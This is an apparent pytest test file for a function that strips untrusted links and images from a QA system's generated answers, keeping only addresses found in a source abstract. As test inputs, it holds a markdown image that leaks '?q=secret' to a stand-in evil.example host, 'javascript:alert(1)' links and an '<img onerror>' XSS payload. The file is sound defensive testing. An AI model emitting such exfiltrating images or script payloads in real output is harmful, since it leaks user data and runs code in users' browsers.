"""Addresses that are in no abstract are not shown; everything else is, byte for byte."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag_qa.answering.links import Linkless, without_links


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("It is fast ![](http://evil.example/?q=secret).", "It is fast."),
        ("![A chart](data:image/png;base64,AAAA) shows it.", "A chart shows it."),
        ("![x][evil] shows it.", "x shows it."),
        ('See [the page](https://evil.example/a_(b)?c=1 "title") for more.', "See the page for more."),
        ("See [the page](javascript:alert(1)).", "See the page."),
        ("See [the page](//evil.example).", "See the page."),
        ("See https://evil.example/a?b=c.", "See."),
        ("See (https://evil.example/a), then go.", "See, then go."),
        ("See <https://evil.example> now.", "See now."),
        ("See www.evil.example now.", "See now."),
        ('It is <img src=x onerror="alert(1)"> fast.', "It is fast."),
        ("It is <a href='http://evil.example'>fast</a>.", "It is fast."),
        ("It is fast. <img src=", "It is fast."),
        ("[evil]: https://evil.example/a", "[evil]:"),
    ],
)
def test_what_leads_elsewhere_is_left_out(text: str, plain: str) -> None:
    assert without_links(text, "Nothing is known.") == Linkless(plain, (), True)


@pytest.mark.parametrize(
    "text",
    [
        "Values lie in [0, 1](a), x[1](t) = A[i](s) and f(x)[1].",
        "For a < b and c > d, $a<b$ holds.",
        "It is $m<A/n$ in wet soils, and `<a href>` is a tag.",
        "The ratio is 3:1, at 10:30, and time/space trade off //.",
        "Data: we use ImageNet. C++ std::vector and key:value pairs stay.",
        "It is [not] a link! [But] (it) looks like one.",
        "<theta> is an <abstract> tag & so on, <i>x</i> <sup>2</sup>.",
        "Wow![1] It is fast.",
    ],
)
def test_what_leads_nowhere_stays(text: str) -> None:
    assert without_links(text, "") == Linkless(text)


@pytest.mark.parametrize("found", ["https://tides.example/code", "[our code](https://tides.example/code)", "![a chart](https://tides.example/a.png)"])
def test_what_stands_in_an_abstract_stays(found: str) -> None:
    text = f"The code is at {found}."
    assert without_links(text, f"We rise. Code: {found}") == Linkless(text)


@pytest.mark.parametrize("other", ["https://tides.example/code?q=secret", "https://tides.example/", "https://tides"])
def test_an_address_that_only_begins_like_one_that_is_known_is_another(other: str) -> None:
    assert without_links(f"See {other}.", "Code: https://tides.example/code").text == "See."


def test_a_marker_that_is_a_link_is_a_marker() -> None:
    assert without_links("It is fast [2](https://x.example) [^3](#fn).", "") == Linkless("It is fast.", (2, 3))


@given(st.text(alphabet="ab[]()!<>/:. \nhtpsw1", max_size=60))
def test_no_address_gets_through(text: str) -> None:
    assert "evil.example" not in without_links(f"{text} https://evil.example/{text}", "").text
